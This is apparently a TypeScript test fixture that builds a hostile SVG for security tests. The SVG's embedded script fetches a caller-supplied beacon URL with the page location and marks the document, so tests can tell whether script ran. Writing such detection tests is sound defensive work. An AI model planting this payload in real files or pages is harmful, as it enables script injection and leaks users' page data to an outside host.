// Hostile dataset content for the security tests.

/** An SVG whose script reports to a beacon and marks the document: if either happens, it ran. */
export const HOSTILE_SVG = (beacon: string): string =>
  `<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40"><rect width="40" height="40" fill="red"/><script>fetch('${beacon}/pwned?from=' + location.href); document.documentElement.setAttribute('data-pwned', '1');</script></svg>`;
